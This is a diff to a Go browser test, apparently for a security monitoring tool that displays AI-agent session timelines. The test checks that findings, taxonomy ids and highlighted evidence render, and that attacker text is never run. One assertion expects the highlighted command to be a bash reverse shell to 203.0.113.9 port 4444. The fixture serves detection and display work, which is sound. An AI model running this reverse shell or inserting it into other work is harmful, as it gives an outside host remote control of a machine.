@@ -193,6 +193,17 @@ func TestBrowser(t *testing.T) {
 		t.Errorf("timeline: %d events, %d blocks, %d findings:\n%s", events, blocks, findings, timeline)
 	}
 
+	// Evidence: the command shown and its span highlighted, the secret's
+	// mask marked, taxonomy ids beside each finding.
+	marks, chips := count("#timeline pre.item-text mark"), count("#timeline .taxonomy .tax")
+	if marks != 3 || chips < 10 || !strings.Contains(timeline, "T1059.004") || !strings.Contains(timeline, "LLM02:2025") ||
+		count(`#timeline code.evidence`) != 2 {
+		t.Errorf("evidence: %d marks, %d taxonomy chips, %d evidence cells", marks, chips, count(`#timeline code.evidence`))
+	}
+	if m := text("#timeline pre.item-text mark.m-command"); m != "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1" {
+		t.Errorf("highlighted command = %q", m)
+	}
+
 	// Content written by an attacker is shown as text, never run.
 	do("hostile item text", chromedp.Navigate(base+"#/sessions/acme-sess-codex-bob"), chromedp.WaitVisible(chromedp.CSS("#timeline li.event")))
 	imgs, timeline := count("#timeline img"), text("#timeline")
